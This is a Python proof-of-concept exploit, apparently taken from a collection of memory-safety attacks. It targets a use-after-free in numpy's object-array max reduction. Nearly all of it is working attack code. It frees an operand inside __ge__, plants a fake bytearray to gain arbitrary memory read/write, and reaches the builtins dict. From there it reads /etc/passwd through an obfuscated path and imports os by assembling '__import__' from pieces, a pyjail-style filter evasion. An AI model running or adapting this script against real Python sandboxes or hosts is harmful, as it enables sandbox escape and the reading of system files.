# source: numpy object-dtype min/max loops (npy_ObjectMax in numpy/core/src/umath/funcs.inc.src keeps borrowed array pointers across PyObject_RichCompareBool, cf. numpy gh-3879 family of object-array comparison re-entrancy bugs); fake-object technique from CPython exploitation / pyjail write-ups
# family: memory safety - use-after-free: ndarray.max() (np.maximum.reduce) on an object array; the script's __ge__ drops the other operand (del + array slot overwrite) and reclaims its memory with a bytearray holding a fake bytearray header; numpy then returns the dangling pointer
# goal: arbitrary memory read/write -> builtins dict (func_builtins) -> open() reads /etc/passwd, __import__ -> os
import numpy as np

PAY = np.array([1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0], dtype=np.uint64).tobytes()
PAY = PAY + bytes(90 - len(PAY))
KEEP = []


class K:
    def __ge__(self, other):
        del other
        A[1] = 0
        KEEP.append(bytearray(PAY))
        return False


A = np.array([K(), bytes(56)], dtype=object)
fake = A.max()
print(type(fake) is bytearray, len(fake))


def rd(addr):
    return int.from_bytes(fake[addr:addr + 8], "little")


def wr(addr, val):
    fake[addr:addr + 8] = val.to_bytes(8, "little")


def f():
    return 0


p = rd(id(f) + 24)
holder = [None]
items = rd(id(holder) + 24)
wr(p, rd(p) + 1)
wr(items, p)
b = holder[0]
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
